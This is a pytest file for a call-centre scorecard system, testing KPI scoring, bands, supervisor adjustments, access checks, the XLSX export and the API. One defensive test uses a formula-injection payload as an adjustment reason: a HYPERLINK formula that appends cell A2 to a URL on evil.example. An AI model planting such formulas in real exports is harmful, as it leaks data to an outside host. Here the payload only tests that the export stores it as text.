"""The monthly 100-point scorecard: KPIs from the month's work, weights, bands at their edges, the
supervisor's adjustment, the team page, the XLSX export and the API."""

import io
from datetime import date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from openpyxl import load_workbook

from calls.models import CallRecord
from reporting.scorecards import band_for, kpi_points, score, scorecard_adjust, scorecards_compute
from reporting.tasks import scorecards_task
from servicecenter.errors import DomainError
from sla.models import Clock
from staff.models import Scorecard, ScoreWeight
from tests.conftest import signed_in
from tests.surveys.factories import review, survey
from tickets.models import Callback

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("shape_a")]
TZ = ZoneInfo("Asia/Shanghai")
OCT = date(2026, 10, 1)
AT = datetime(2026, 10, 14, 10, 0, tzinfo=TZ)
NOW = datetime(2026, 11, 16, 10, 0, tzinfo=TZ)  # a Monday in November: October is over, whatever today's date


@pytest.mark.parametrize(("total", "band"), [
    ("100", "excellent"), ("95", "excellent"), ("94.99", "good"), ("90", "good"), ("89.99", "competent"),
    ("80", "competent"), ("79.99", "basic"), ("60", "basic"), ("59.99", "not_competent"), ("0", "not_competent"),
])
def test_bands_at_their_edges(total, band):
    assert band_for(Decimal(total)) == band


def test_points_in_proportion_below_the_target_and_full_at_or_above_it():
    assert kpi_points("sla", 0.95, Decimal(30), Decimal("0.95")) == Decimal(30)
    assert kpi_points("sla", 1.0, Decimal(30), Decimal("0.95")) == Decimal(30)
    assert kpi_points("satisfaction", 0.45, Decimal(25), Decimal("0.90")) == Decimal("12.5")
    assert kpi_points("errors", 0.02, Decimal(15), Decimal("0.02")) == Decimal(15)
    assert kpi_points("errors", 0.51, Decimal(15), Decimal("0.02")) == Decimal("7.5")


def test_a_kpi_without_data_drops_out_and_the_rest_scale_to_100():
    weights = {"sla": (Decimal(30), Decimal("0.95")), "pickup": (Decimal(15), Decimal("0.90"))}
    total, detail = score({"sla": 0.475, "pickup": None}, weights)
    assert total == Decimal("50.00")
    assert (detail["pickup"]["points"], detail["sla"]["points"]) == (None, "15.00")
    assert score({"sla": None, "pickup": None}, weights)[0] is None


@pytest.mark.parametrize(("value", "total", "band"), [
    (0.94995, "94.99", "good"), (0.949999, "94.99", "good"), (0.95, "95.00", "excellent"),
    (0.89999, "89.99", "competent"), (0.59995, "59.99", "not_competent"),
])
def test_the_score_is_cut_to_two_decimals_and_the_band_follows_the_figure_shown(value, total, band):
    """94.995 was rounded up to 95.00 and banded 优秀; the figure is cut, never rounded across a band."""
    weights = {"sla": (Decimal(100), Decimal(1))}
    assert score({"sla": value}, weights)[0] == Decimal(total)
    assert band_for(score({"sla": value}, weights)[0]) == band


@pytest.fixture
def october(make_ticket, member):
    """agent1's October: 20 deadlines due (1 breached), 10 survey answers (8 satisfied or better),
    4 callbacks due (2 done, 1 failed after three tries, 1 never made), 10 calls answered (9 within
    15 s), 5 reviewed tickets (1 with an error). agent4 did nothing in October. The test runs with the
    clock stopped at ``NOW``."""
    with time_machine.travel(NOW, tick=False):
        yield _october(make_ticket, member)


def _october(make_ticket, member):
    agent = member("agent1")
    tickets = [make_ticket(by="agent1", assignee=agent, received_at=AT - timedelta(days=3)) for _ in range(10)]
    clocks = Clock.objects.filter(ticket__in=tickets)
    assert clocks.count() == 20  # an inquiry has a first-response and a resolution deadline
    clocks.update(due_at=AT, breached_at=None)
    Clock.objects.filter(pk=clocks.order_by("pk").first().pk).update(breached_at=AT)
    for rating, ticket in zip((5, 5, 5, 4, 4, 4, 4, 4, 3, 1), tickets, strict=True):
        survey(ticket, sent_at=AT, rating=rating)
    for state in ("done", "done", "failed", "due"):
        Callback.objects.create(ticket=tickets[0], assignee=agent, state=state, due_at=AT)
    Callback.objects.create(ticket=tickets[0], assignee=agent, state="cancelled", due_at=AT)
    for n, wait in enumerate((3, 5, 8, 10, 12, 14, 15, 15, 15, 16)):
        CallRecord.objects.create(call_id=f"c{n}", queue="95598", enqueued_at=AT, answered_at=AT, outcome="answered",
                                  wait_seconds=wait, agent=f"Agent/{agent.agent_no}")
    CallRecord.objects.create(call_id="gone", queue="95598", enqueued_at=AT, outcome="abandoned", wait_seconds=40)
    for n, ticket in enumerate(tickets[:5]):
        review(ticket, at=AT, error=n == 0, reviewer=member("lead1"))
    return tickets


def test_the_months_score_from_the_kpis(october, member):
    assert scorecards_compute(month=OCT) == 1  # agent4 and the other agents had no work to score
    card = Scorecard.objects.get(staff=member("agent1"), month=OCT)
    values = {k: (v["value"], v["part"], v["whole"], v["points"]) for k, v in card.kpis.items()}
    assert values == {
        "sla": (0.95, 19, 20, "30.00"),
        "satisfaction": (0.8, 8, 10, "22.22"),
        "callback": (0.75, 3, 4, "11.84"),
        "pickup": (0.9, 9, 10, "15.00"),
        "errors": (0.2, 1, 5, "12.24"),
    }
    # 30 + 25 × 0.8 / 0.9 + 15 × 0.75 / 0.95 + 15 + 15 × 0.8 / 0.98 = 91.3092…, cut to 91.30
    assert (card.base_score, card.adjustment, card.total, card.band) == (Decimal("91.30"), 0, Decimal("91.30"),
                                                                         "good")
    assert card.team == member("agent1").position.unit


def test_admins_change_the_weights(october, member):
    ScoreWeight.objects.filter(kpi="satisfaction").update(weight=0)
    scorecards_compute(month=OCT)
    card = Scorecard.objects.get(staff=member("agent1"))
    # (30 + 11.8421 + 15 + 12.2449) / 75 × 100 = 92.1160…, cut to 92.11
    assert card.total == Decimal("92.11")


def test_a_supervisor_adjusts_with_a_reason_and_recomputing_keeps_it(october, member, user):
    scorecards_compute(month=OCT)
    card = Scorecard.objects.get(staff=member("agent1"))
    adjusted = scorecard_adjust(scorecard_id=card.pk, actor=user("lead1"), adjustment="3.70", reason="表扬信一封")
    assert (adjusted.total, adjusted.band, adjusted.adjusted_by) == (Decimal("95.00"), "excellent", member("lead1"))
    scorecards_compute(month=OCT)
    again = Scorecard.objects.get(pk=card.pk)
    assert (again.adjustment, again.adjustment_reason, again.total, again.band) == (
        Decimal("3.70"), "表扬信一封", Decimal("95.00"), "excellent")


@pytest.mark.parametrize(("actor", "adjustment", "reason", "code"), [
    ("lead1", "11", "太多", "adjustment"),
    ("lead1", "-10.01", "太多", "adjustment"),
    ("lead1", "abc", "x", "adjustment"),
    ("lead1", "NaN", "x", "adjustment"),
    ("lead1", "2", "  ", "reason"),
    ("agent1", "5", "自评", "forbidden"),
    ("lead2", "5", "别的班组", "forbidden"),
    ("agent3", "5", "同事", "forbidden"),
])
def test_refused_adjustments_change_nothing(october, member, user, actor, adjustment, reason, code):
    scorecards_compute(month=OCT)
    card = Scorecard.objects.get(staff=member("agent1"))
    before = Scorecard.objects.filter(pk=card.pk).values().get()
    with pytest.raises(DomainError) as refused:
        scorecard_adjust(scorecard_id=card.pk, actor=user(actor), adjustment=adjustment, reason=reason)
    assert refused.value.code == code
    assert Scorecard.objects.filter(pk=card.pk).values().get() == before


def test_computing_takes_the_same_queries_for_one_agent_or_many(october, make_ticket, member, count_queries):
    first = count_queries(lambda: scorecards_compute(month=OCT))
    for name in ("agent2", "agent3", "agent4", "agent5", "agent6"):
        ticket = make_ticket(by=name, team=None, assignee=member(name), received_at=AT - timedelta(days=3))
        survey(ticket, sent_at=AT, rating=5)
    more = count_queries(lambda: scorecards_compute(month=OCT))
    assert Scorecard.objects.filter(month=OCT).count() == 6
    assert (first, more) == (13, 13)


def test_the_monthly_task_scores_last_month(october, member):
    assert scorecards_task("2026-10-01") == 1
    assert Scorecard.objects.filter(staff=member("agent1"), month=OCT).exists()


def test_the_team_page_and_the_export(october, member):
    scorecards_compute(month=OCT)
    page = signed_in("lead1").get("/org/scorecards/?month=2026-10")
    assert page.status_code == 200
    assert [c.staff.user.username for c in page.context["cards"]] == ["agent1"]
    html = page.content.decode()
    assert "91.30" in html
    assert "良好" in html
    assert [c.staff.user.username for c in signed_in("agent1").get("/org/scorecards/?month=2026-10")
            .context["cards"]] == ["agent1"]
    assert signed_in("agent4").get("/org/scorecards/?month=2026-10").context["cards"] == []
    export = signed_in("lead1").get("/org/scorecards/export.xlsx?month=2026-10")
    sheet = load_workbook(io.BytesIO(export.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("工号", "姓名", "班组", "时限达标率")
    assert rows[1][0] == member("agent1").employee_no
    assert rows[1][-2:] == (91.30, "良好")
    assert len(rows) == 2


def test_the_page_adjusts_and_recomputes(october, member):
    scorecards_compute(month=OCT)
    card = Scorecard.objects.get(staff=member("agent1"))
    client = signed_in("lead1")
    adjusted = client.post(f"/org/scorecards/{card.pk}/adjust/", {"adjustment": "-1.30", "reason": "迟到两次"})
    assert adjusted.status_code == 302
    assert Scorecard.objects.get(pk=card.pk).total == Decimal("90.00")
    refused = signed_in("agent1").post(f"/org/scorecards/{card.pk}/adjust/", {"adjustment": "5", "reason": "自评"})
    assert refused.status_code == 403
    assert Scorecard.objects.get(pk=card.pk).total == Decimal("90.00")
    assert client.post("/org/scorecards/compute/", {"month": "2026-10"}).status_code == 302
    assert signed_in("agent1").post("/org/scorecards/compute/", {"month": "2026-10"}).status_code == 403


def test_a_reason_that_looks_like_a_formula_is_text_in_the_export(october, member):
    """An adjustment reason "=HYPERLINK(…)" was a live formula in the director's XLSX export."""
    scorecards_compute(month=OCT)
    card = Scorecard.objects.get(staff=member("agent1"))
    reason = '=HYPERLINK("http://evil.example/?"&A2,"点此查看")'
    scorecard_adjust(scorecard_id=card.pk, actor=member("lead1").user, adjustment=Decimal(1), reason=reason)
    export = signed_in("director").get("/org/scorecards/export.xlsx?month=2026-10")
    sheet = load_workbook(io.BytesIO(export.content)).active
    reason_cell = [cell for cell in sheet[2] if cell.value == reason]
    assert len(reason_cell) == 1
    assert reason_cell[0].data_type == "s"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_the_scorecard_api(october, member, api):
    scorecards_compute(month=OCT)
    listed = api("lead1").get("/api/v1/scorecards/?month=2026-10").json()
    assert [(r["employee_no"], r["total"], r["band"]) for r in listed["results"]] == [
        (member("agent1").employee_no, "91.30", "good")]
    card_id = listed["results"][0]["id"]
    adjusted = api("lead1").post(f"/api/v1/scorecards/{card_id}/adjust/", {"adjustment": "4", "reason": "表扬"},
                                 format="json")
    assert (adjusted.status_code, adjusted.json()["total"], adjusted.json()["band"]) == (200, "95.30", "excellent")
    assert api("lead1").post(f"/api/v1/scorecards/{card_id}/adjust/", {"adjustment": "40", "reason": "x"},
                             format="json").status_code == 400
    assert api("lead2").get(f"/api/v1/scorecards/{card_id}/").status_code == 404
    assert api("lead1").get("/api/v1/scorecards/?month=26-10").status_code == 400
    computed = api("director").post("/api/v1/scorecards/compute/", {"month": "2026-10"}, format="json")
    assert computed.json() == {"month": "2026-10-01", "scorecards": 1}
    assert api("director").post("/api/v1/scorecards/compute/", {"month": "2099-01"}, format="json").status_code == 409
    assert api("agent1").post("/api/v1/scorecards/compute/", {"month": "2026-10"}, format="json").status_code == 403
